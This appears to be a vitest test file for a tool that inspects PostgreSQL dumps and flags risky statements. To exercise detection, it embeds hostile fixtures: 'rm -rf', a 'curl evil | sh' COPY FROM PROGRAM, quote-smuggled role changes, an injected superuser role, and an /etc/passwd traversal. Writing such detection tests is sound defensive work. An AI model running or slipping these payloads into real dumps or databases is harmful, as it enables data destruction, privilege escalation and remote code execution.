// What an X-ray says of the inside: what is in it, what it needs, what wants a yes.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { xrayFile } from '../../../electron/core/xray/xray-file.ts'
import { shopEntries, writeCustom, writeDirectory, writePgTar } from '../../helpers/write-archive.ts'
import { root, host, write, look, archive } from './look-into.ts'

describe('scripts', () => {
  it('counts rows, whatever they are written in', async () => {
    const text =
      '-- Dumped from database version 18.0\n-- Dumped by pg_dump version 18.1\nCREATE TABLE public.a (id int);\nCREATE TABLE public.b (id int);\nCOPY public.a (id) FROM stdin;\n1\n2\n3\n\\.\n'
    const forms: [Buffer, string][] = [
      [Buffer.from(text), 'UTF8'],
      [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text.replaceAll('\n', '\r\n'))]), 'UTF8'],
      [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), 'UTF16LE'],
      [gzipSync(text), 'UTF8'],
    ]
    for (const [bytes, encoding] of forms) {
      const found = await look(write(bytes))
      expect(found).toMatchObject({
        kind: 'script',
        verdict: { kind: 'will-restore', sentence: 'Will restore.' },
        needs: { encoding, pgRestoreMajor: null },
        objects: { tables: 2 },
      })
      expect(found.tables).toEqual([
        { name: 'public.a', rows: 3, bytes: null },
        { name: 'public.b', rows: null, bytes: null },
      ])
      expect(found.sentence).toBe(
        `A plain dump by pg_dump 18.1: ${found.script?.statements} statements, 3 rows in 1 table.`,
      )
    }
  })
  it('names what needs a yes', async () => {
    const text =
      "CREATE TABLE t (id int);\n\\! rm -rf ~\n\\copy t from 'x'\nCOPY t FROM PROGRAM 'id';\nALTER SYSTEM SET a.b = 1;\nALTER ROLE postgres NOSUPERUSER;\nCREATE DATABASE other;\nCREATE SERVER s FOREIGN DATA WRAPPER file_fdw;\nCREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();\nCREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$x$$;\nCREATE FUNCTION g() RETURNS int LANGUAGE plpython3u AS $$x$$;\n"
    const { risks, verdict } = await look(write(text))
    const ids = risks.map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const id of [
      'program:copy-program-runs-a-program-on-the-server',
      'psql:a-command-for-psql-that-runs-a-program-on-this-computer',
      'server:changes-the-settings-of-the-whole-server',
      'superuser:event-triggers-are-for-superusers',
      'superuser:functions-in-plpython3u-are-for-superusers',
      'server:changes-a-role-which-all-databases-of-the-server-share',
      'server:reads-from-another-server-or-a-file',
    ])
      expect(ids).toContain(id)
    expect(risks.find(({ id }) => id.includes('plpython3u'))).toMatchObject({
      where: expect.stringMatching(/:10 and 1 more$/),
    })
    expect(verdict).toMatchObject({
      kind: 'will-restore-without',
      sentence: expect.stringMatching(/without what its commands for psql do and 6 things that need your yes/),
    })
  })
})

describe('archives', () => {
  it('says what is in it and what it needs', async () => {
    const entries = [
      {
        dumpId: 90,
        desc: 'DATABASE',
        tag: 'shop',
        schema: null,
        definition:
          "CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE_PROVIDER = libc LOCALE = 'de_DE.UTF-8';\n",
      },
      ...shopEntries,
      {
        dumpId: 91,
        desc: 'ACL',
        tag: 'TABLE customer',
        definition:
          'GRANT ALL ON TABLE public.customer TO rds_superuser;\nGRANT ALL ON TABLE public.customer TO anon;\n',
      },
    ]
    const found = await look(write(gzipSync(writeCustom({ minor: 16, entries }))))
    expect(found).toMatchObject({
      kind: 'archive',
      layers: ['gzip', 'archive-custom'],
      archive: { version: '1.16', databaseName: 'shop', needsPgRestore: 17 },
      objects: { tables: 2, constraints_pk: 1, indexes: 1, extensions: 1 },
      needs: { pgRestoreMajor: 17, encoding: 'UTF8', locale: 'de_DE.UTF-8', languages: [] },
      verdict: { kind: 'will-restore' },
    })
    expect(found.archive).not.toHaveProperty('entries')
    expect(found.needs.extensions).toEqual([
      {
        name: 'citext',
        neededBy: 2,
        objects: ['TABLE public.customer', 'CONSTRAINT public.customer customer_pkey'],
        available: null,
        trusted: null,
      },
    ])
    expect(found.needs.roles).toEqual([
      { name: 'Reader', exists: null, cloud: null },
      { name: 'anon', exists: null, cloud: null },
      { name: 'postgres', exists: null, cloud: null },
      { name: 'rds_superuser', exists: null, cloud: 'Amazon RDS' },
      { name: 'shop_owner', exists: null, cloud: null },
    ])
    expect(found.findings.map(({ code }) => code)).toContain('cloud-roles')
  })
  it('tar and directory give the same answer', async () => {
    const tar = await look(write(writePgTar({ minor: 14, entries: shopEntries })))
    const folder = await look(writeDirectory(join(root, 'same'), { minor: 14, entries: shopEntries }))
    const custom = await look(write(archive))
    expect(tar.objects).toEqual(custom.objects)
    expect(folder.objects).toEqual(custom.objects)
    expect([tar, folder, custom].map(({ tables }) => tables.map(({ name }) => name))).toEqual(
      Array.from({ length: 3 }, () => ['public.customer', 'public."Größe"']),
    )
  })
  it('finds what was hidden in it', async () => {
    const hidden = [
      ...shopEntries,
      {
        dumpId: 50,
        desc: 'TABLE',
        tag: 'innocent',
        definition: "CREATE TABLE public.innocent (id int);\nALTER SYSTEM SET archive_command = 'rm -rf /';\n",
      },
      {
        dumpId: 51,
        desc: 'TABLE DATA',
        tag: 'innocent',
        copyStatement: "COPY public.innocent FROM PROGRAM 'curl evil | sh';\n",
        data: Buffer.from('\\.\n'),
      },
      { dumpId: 52, desc: 'VIEW', tag: 'open', definition: "CREATE VIEW public.open AS SELECT '" },
      { dumpId: 53, desc: 'VIEW', tag: 'inside', definition: 'ALTER ROLE postgres NOSUPERUSER;\n' },
      { dumpId: 54, desc: 'VIEW', tag: 'close', definition: "';\n" },
      {
        dumpId: 55,
        desc: 'SEQUENCE SET',
        tag: 's',
        definition: "SELECT pg_catalog.setval('public.s', 1, true); CREATE ROLE evil SUPERUSER;\n",
      },
      { dumpId: 56, desc: 'COMMENT', tag: 'x', definition: '\\! touch /tmp/groundwork-owned\n' },
    ]
    const { risks, verdict } = await look(write(writeCustom({ minor: 14, entries: hidden })))
    const seen = risks.map(({ id, where }) => `${id} @ ${where}`).join('\n')
    for (const wanted of [
      /server:changes-the-settings\S* @ entry 50, TABLE public\.innocent/,
      /program:rows-are-loaded\S* @ entry 51/,
      /unreadable:its-quotes\S* @ entry 52, VIEW public\.open and 2 more/,
      /server:changes-a-role\S* @ entry 53/,
      /server:makes-a-role\S* @ entry 55/,
      /server:makes-a-role\S* @ entry 55/,
    ])
      expect(seen).toMatch(wanted)
    expect(verdict.kind).toBe('will-restore-without')
  })
})

describe('what a script names on this computer', () => {
  it('is not opened', async () => {
    writeFileSync(join(root, 'private.sql'), 'CREATE TABLE private (id int);\n')
    const path = write(
      'CREATE TABLE own (id int);\n\\i private.sql\n\\i /dev/zero\n\\ir ../../../../../../etc/passwd\n',
    )
    const found = await look(path)
    expect(found.objects).toMatchObject({ tables: 1 })
    expect(found.risks.map(({ id }) => id)).toEqual([
      'psql:a-command-for-psql-that-reads-or-writes-a-file-of-this-computer',
    ])
    expect(JSON.stringify(found)).not.toContain('root:')
  })
  it("may be, for a script of one's own; but no device", async () => {
    const own = await xrayFile(host, write('CREATE TABLE own (id int);\n\\i private.sql\n'), { followIncludes: true })
    expect(own.objects).toMatchObject({ tables: 2 })
    const device = await xrayFile(host, write('CREATE TABLE own (id int);\n\\i /dev/zero\n'), { followIncludes: true })
    expect(device.findings.map(({ message }) => message).join()).toMatch(/no ordinary file/)
  })
})
